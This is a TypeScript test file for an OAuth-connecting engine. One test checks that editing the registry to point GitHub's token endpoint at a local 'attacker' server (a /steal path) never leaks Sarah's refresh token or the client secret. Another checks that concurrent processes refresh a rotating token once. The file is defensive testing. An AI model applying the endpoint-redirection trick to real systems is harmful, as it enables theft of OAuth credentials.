// Attack 1: a member points the space's OAuth token endpoint at a server of theirs; Sarah's next
// refresh would send her refresh token and the client secret there. And 10e: two processes
// sharing one vault spend a rotating refresh token once.
import { createServer, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterEach, describe, expect, it } from 'vitest';
import { builtinCatalog, connectWithOAuth, enableActions, Home, routerFor, unlockTenant } from '../../src/engine/index.js';
import { FAST_KDF, PASS_SARAH, runAs } from '../helpers.js';
import { world, type World } from '../integration/router-helpers.js';
import { editRegistry } from './attacker.js';

const catalog = builtinCatalog();
let w: World;
const closers: (() => Promise<void>)[] = [];
afterEach(async () => {
  for (const c of closers.splice(0)) await c();
  await w?.close();
});

/** The attacker's own server on another loopback port: it records whatever reaches it. */
async function attackerServer(): Promise<{ url: string; seen: { path: string; body: string; authorization?: string }[] }> {
  const seen: { path: string; body: string; authorization?: string }[] = [];
  const server = createServer((req: IncomingMessage, res) => {
    let body = '';
    req.on('data', (c: Buffer) => (body += c.toString()));
    req.on('end', () => {
      seen.push({ path: req.url ?? '', body, ...(req.headers.authorization ? { authorization: req.headers.authorization } : {}) });
      res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ access_token: 'attacker-token-000000000000', refresh_token: 'attacker-refresh', expires_in: 3600 }));
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const timer = setTimeout(() => server.close(), 60_000).unref();
  closers.push(async () => {
    clearTimeout(timer);
    await new Promise<void>((resolve) => server.close(() => resolve()));
  });
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, seen };
}

/** Sarah signs in to GitHub through the loopback flow (the fake plays the browser and provider). */
async function sarahSignsIn(): Promise<void> {
  w.fake.oauth.addClient('switchboard-gh', { provider: 'github', secret: 'gh-client-secret', account: 'sarah' });
  await runAs(w.space, w.sarah, 'admin.setOAuthClient', {
    connectorId: 'github',
    clientId: 'switchboard-gh',
    clientSecret: 'gh-client-secret',
    authorizeUrl: `${w.fake.url}/oauth/authorize`,
    tokenUrl: `${w.fake.url}/oauth/token`,
  });
  w.fake.oauth.expiresInSeconds = 30; // within the refresh margin: the next call refreshes
  await connectWithOAuth(w.space, catalog, w.sarah, 'github', {
    baseUrl: w.fake.baseUrl('github'),
    openUrl: (url) => {
      void fetch(url, { redirect: 'manual' }).then((res) => fetch(res.headers.get('location')!));
    },
  });
  await enableActions(w.sarah, catalog, ['github.list_issues']);
}
const sarahCalls = () => w.router.execute(w.sarah, 'github.list_issues', { owner: 'a', repo: 'b' }, { via: 'ui' });

describe('OAuth refresh', () => {
  it('never follows a token endpoint edited into the registry: the vault recorded the one the sign-in used', async () => {
    w = await world();
    await sarahSignsIn();
    const attacker = await attackerServer();
    await editRegistry(w.space, "UPDATE oauth_client SET token_url = ? WHERE connector_id = 'github'", [`${attacker.url}/steal`]);

    // The edit breaks the space's signature: nothing runs, and policy show says why.
    await expect(sarahCalls()).rejects.toMatchObject({ code: 'POLICY_DENIED', message: expect.stringMatching(/changed outside Switchboard/) });
    // Even once an admin re-saves without noticing the edit, the refresh goes where the sign-in went.
    await runAs(w.space, w.sarah, 'admin.setPolicy', { subject: 'slack', role: 'viewer', effect: 'deny' });
    expect((await sarahCalls()).status).toBe('ok');
    expect(w.fake.oauth.refreshCount.get('sarah')).toBe(1);
    expect(attacker.seen).toEqual([]);
    expect(w.fake.requestsTo('github').at(-1)!.headers.authorization).toMatch(/^Bearer at-sarah-/);
  });

  it('two processes on one vault refresh a rotating token once, and both calls succeed', async () => {
    w = await world();
    await sarahSignsIn();
    // A second process: its own Home, Space, router and vault handle on the same files.
    const other = new Home(w.dir, { scryptCost: FAST_KDF });
    closers.push(() => other.close());
    const otherSpace = await other.openSpace();
    const otherSarah = await unlockTenant(otherSpace, 'Sarah', PASS_SARAH);
    w.fake.oauth.refreshDelayMs = 300;
    const [a, b] = await Promise.all([
      sarahCalls(),
      routerFor(otherSpace).execute(otherSarah, 'github.list_issues', { owner: 'a', repo: 'b' }, { via: 'cli' }),
    ]);
    expect([a.status, b.status]).toEqual(['ok', 'ok']);
    // The fake spends a refresh token once (a second use is invalid_grant): one refresh reached it.
    expect(w.fake.oauth.refreshCount.get('sarah')).toBe(1);
    expect(w.fake.requestsTo('oauth', '/token').filter((r) => (r.body as Record<string, string>).grant_type === 'refresh_token')).toHaveLength(1);
  });
});
